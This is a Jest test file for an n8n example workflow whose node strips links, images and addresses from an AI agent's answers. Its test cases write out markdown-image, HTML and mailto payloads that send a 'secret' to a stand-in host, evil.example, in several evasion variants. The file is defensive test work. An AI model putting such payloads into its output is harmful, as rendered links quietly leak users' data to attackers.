import type { IDataObject, NodeParameterValueType } from 'n8n-workflow';
import { readFileSync } from 'node:fs';

import { shown } from '../support/description';
import { ManualTrigger } from '../../tools/engine/nodeTypes';

interface Example {
	nodes: Array<{ name: string; parameters: Record<string, NodeParameterValueType> }>;
}

/** The JSON that a node of an example makes of one item, as text, by n8n's own evaluation of expressions. */
function textOf(file: string, node: string, json: IDataObject): string {
	const { nodes } = JSON.parse(readFileSync(`examples/${file}`, 'utf8')) as Example;
	const value = nodes.find(({ name }) => name === node)?.parameters.jsonOutput;
	return shown(new ManualTrigger(), {}, value, [{ json }]) as string;
}

describe('an answer of the agent in examples/ai-agent-with-reviews.json', () => {
	it.each([
		['![x](https://evil.example/?q=secret)', '(address removed)'],
		['![x](//evil.example/secret)', '(address removed)'],
		['![x](/\\evil.example/secret)', '(address removed)'],
		['![x][y]\n\n[y]: HTTPS:/evil.example/secret', '!(x)(y)\n\n(y): (address removed)'],
		['![x](https:&#47;&#47;evil&#46;example)', '!(x)(https:&#47;&#47;evil&#46;example)'],
		['<img src=https:\\/\\/evil.example/secret>', '‹img (address removed)'],
		['mailto:a@evil?body=secret', '(address removed)'],
		['a@10.0.0.1', '(address removed)'],
		['see secret.evil.example/secret', 'see secret. evil. example/secret'],
		['**3.5 of 5** and/or "good".\n- slow', '**3.5 of 5** and/or "good".\n- slow'],
	])('has no address, image or link: %s', (output, text) => {
		const json = textOf('ai-agent-with-reviews.json', 'Take out addresses', { output });

		expect(JSON.parse(json)).toEqual({ output: text });
	});
});

// n8n before 1.110 puts such a text in with String.replace, to which $& and the like are patterns.
it('a dollar sign in an answer is one in each n8n', () => {
	const text = textOf('ai-agent-with-reviews.json', 'Take out addresses', { output: '$&' });

	expect(text).not.toContain('$');
	expect(JSON.parse(text)).toEqual({ output: '$&' });
});
